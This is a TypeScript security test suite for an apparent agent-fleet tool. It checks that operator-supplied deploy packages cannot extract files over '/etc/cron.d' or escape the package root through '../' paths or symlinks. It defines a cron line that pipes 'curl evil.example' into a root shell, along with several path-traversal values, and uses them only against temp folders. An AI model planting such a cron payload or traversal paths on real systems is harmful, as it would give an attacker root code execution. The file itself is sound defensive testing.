// Attacks on agents through deploy packages (issue 12, "an operator gets root on the org's
// agents"): extract.to must be a relative path under the agent's package root, or an
// absolute one under a prefix the global admin allowed for the org. The server refuses
// anything else when the package is saved and when a job is prepared; the agent refuses it
// too. Victims are temp folders standing in for /etc/cron.d: nothing is written elsewhere.
import assert from 'node:assert/strict';
import { mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { deployModule } from '../../src/modules/deploy/index.ts';
import type { DeployParams } from '../../src/modules/deploy/schema.ts';
import { type AgentProcess, type FleetServer, runEnded, startAgent, startFleetServer } from '../agent/e2e-support.ts';
import { agentJobContext } from '../modules/agent-job-context.ts';
import { tarBytes, writeTar } from '../modules/tar-builder.ts';

const CRON_LINE = '* * * * * root curl evil.example | sh\n';
const EVIL_TAR = tarBytes([{ name: 'job', content: CRON_LINE }]);

describe('security: deploy packages on real agents', () => {
  let server: FleetServer;
  let agent: AgentProcess;
  let operator: string;
  let temp: string;

  const asOperator = (method: string, path: string, body?: unknown) => server.callAs(operator, method, path, body);

  /** Uploads `archive` as the operator and registers it as package `name` with `steps`. */
  async function addPackage(name: string, steps: unknown[], archive = EVIL_TAR) {
    const uploaded = await fetch(`${server.url}/api/v1/packages/files`, {
      method: 'POST',
      headers: { authorization: `Bearer ${operator}`, 'content-type': 'application/octet-stream' },
      body: archive,
    });
    assert.ok(uploaded.status === 201 || uploaded.status === 200, String(uploaded.status));
    const { sha256 } = (await uploaded.json()) as { sha256: string };
    return asOperator('POST', '/api/v1/packages', { name, version: '1.0', archive: sha256, steps });
  }

  /** The operator deploys `name` to the agent; resolves with the ended run's only jobstate. */
  async function deploy(name: string, target: AgentProcess = agent) {
    const task = await asOperator('POST', '/api/v1/tasks', {
      name: `deploy-${name}-${target.agentId.slice(-6)}`,
      schedule: { kind: 'manual' },
      jobs: [{ name, module: 'deploy', params: { package: name }, targets: { agents: [target.agentId] } }],
    });
    assert.equal(task.status, 201, JSON.stringify(task.json));
    const run = await asOperator('POST', `/api/v1/tasks/${task.json.id}/runs`);
    assert.equal(run.status, 201, JSON.stringify(run.json));
    await runEnded(server.client, run.json.id, 30_000);
    const [js] = await server.client.runJobstates(run.json.id);
    return js as { status: string; result: { outcome?: string; error?: string } };
  }

  before(async () => {
    server = await startFleetServer();
    agent = await server.startAgent({ name: 'pc-1' });
    const user = await server.call('POST', '/api/v1/orgs/fleet/users', { name: 'op', role: 'operator' });
    operator = (await server.call('POST', `/api/v1/users/${user.json.id}/tokens`, { name: 'op' })).json.token;
    temp = await mkdtemp(join(tmpdir(), 'taskwarden-sec-packages-'));
  });
  after(async () => {
    await server.close();
    await rm(temp, { recursive: true, force: true });
  });

  test('attack: an operator extracts a package over a file of "/etc/cron.d" (a temp stand-in) → 400, the file stays', async () => {
    const cronD = join(temp, 'cron.d');
    await mkdir(cronD);
    await writeFile(join(cronD, 'job'), 'original\n');
    const created = await addPackage('cron', [{ type: 'extract', to: cronD }]);
    const js = await deploy('cron');
    assert.equal(await readFile(join(cronD, 'job'), 'utf8'), 'original\n', 'the agent overwrote the victim file');
    assert.equal(created.status, 400, JSON.stringify(created.json));
    assert.equal(created.json.error.code, 'invalid_input');
    assert.equal(created.json.error.details.field, 'steps[0].to');
    assert.equal(js.status, 'error');
  });

  test('a relative extract.to lands under the agent’s package root (default <data>/packages, or --package-root)', async () => {
    const created = await addPackage('rel', [{ type: 'extract', to: 'rel/app' }]);
    assert.equal(created.status, 201, JSON.stringify(created.json));
    assert.equal((await deploy('rel')).status, 'finished');
    assert.equal(await readFile(join(agent.dir, 'packages/rel/app/job'), 'utf8'), CRON_LINE);

    const root = join(temp, 'elsewhere');
    const second = await startAgent({ server: server.url, enrol: await server.enrolmentToken(), packageRoot: root });
    try {
      assert.equal((await deploy('rel', second)).status, 'finished');
      assert.equal(await readFile(join(root, 'rel/app/job'), 'utf8'), CRON_LINE);
    } finally {
      second.child.kill('SIGKILL');
      await second.exited;
      await rm(second.dir, { recursive: true, force: true });
    }
  });

  test('an absolute extract.to is accepted under a prefix the global admin allowed, and extracted there', async () => {
    const apps = join(temp, 'opt-apps');
    const allowed = await server.callAs(server.adminToken, 'PATCH', '/api/v1/orgs/fleet', { extractPrefixes: [apps] });
    assert.equal(allowed.status, 200, JSON.stringify(allowed.json));
    assert.equal((await addPackage('outside', [{ type: 'extract', to: `${apps}-2/x` }])).status, 400);
    const created = await addPackage('apps', [{ type: 'extract', to: `${apps}/tool` }]);
    assert.equal(created.status, 201, JSON.stringify(created.json));
    assert.equal((await deploy('apps')).status, 'finished');
    assert.equal(await readFile(join(apps, 'tool/job'), 'utf8'), CRON_LINE);
  });
});

describe('security: the agent itself refuses a lying deploy payload', () => {
  let dir: string;
  before(async () => {
    dir = await mkdtemp(join(tmpdir(), 'taskwarden-sec-deploy-agent-'));
  });
  after(() => rm(dir, { recursive: true, force: true }));

  async function runAgentHalf(steps: unknown[], extractPrefixes: string[] = []) {
    const archive = join(dir, 'evil.tar');
    await writeTar(archive, [{ name: 'job', content: CRON_LINE }]);
    const payload = {
      package: { name: 'evil', version: '1', sha256: 'e'.repeat(64), size: 1 },
      action: 'install',
      checks: [],
      steps,
      // An agent told of no prefix (or a payload of an older server) allows relative paths only.
      ...(extractPrefixes.length > 0 ? { extractPrefixes } : {}),
    };
    const { ctx } = agentJobContext<DeployParams>({ package: 'evil', action: 'install', force: false }, payload, {
      fetchFile: async () => archive,
      packageRoot: join(dir, 'root'),
    });
    return deployModule.agent!.run(ctx);
  }

  test('attack: an absolute path outside the prefixes the payload allows (none) → ko, the victim file stays', async () => {
    const cronD = join(dir, 'cron.d');
    await mkdir(cronD, { recursive: true });
    await writeFile(join(cronD, 'job'), 'original\n');
    const outcome = await runAgentHalf([{ type: 'extract', to: cronD }]);
    assert.equal(await readFile(join(cronD, 'job'), 'utf8'), 'original\n');
    assert.equal(outcome.ok, false);
    assert.match(
      (outcome.result as { error: string }).error,
      /outside the agent's package root and the org's allowed folders/,
    );
  });

  test('a relative path leaving the root, or through a symlink out of it, is refused; nothing is written', async () => {
    const victim = join(dir, 'victim');
    await mkdir(victim, { recursive: true });
    await mkdir(join(dir, 'root'), { recursive: true });
    await symlink(victim, join(dir, 'root/link'));
    const allowed = join(dir, 'opt');
    await mkdir(allowed, { recursive: true });
    await symlink(victim, join(allowed, 'link'));
    for (const [to, prefixes] of [
      ['../victim', []],
      ['a/../../victim', []],
      ['link', []],
      ['link/sub', []],
      [`${allowed}/link`, [allowed]],
      [`${allowed}/../victim`, [allowed]],
    ] as const) {
      const outcome = await runAgentHalf([{ type: 'extract', to }], [...prefixes]);
      assert.equal(outcome.ok, false, `${to} was extracted`);
      await assert.rejects(readFile(join(victim, 'job')), `${to} wrote through`);
      await assert.rejects(readFile(join(victim, 'sub/job')), `${to} wrote through`);
    }
  });
});
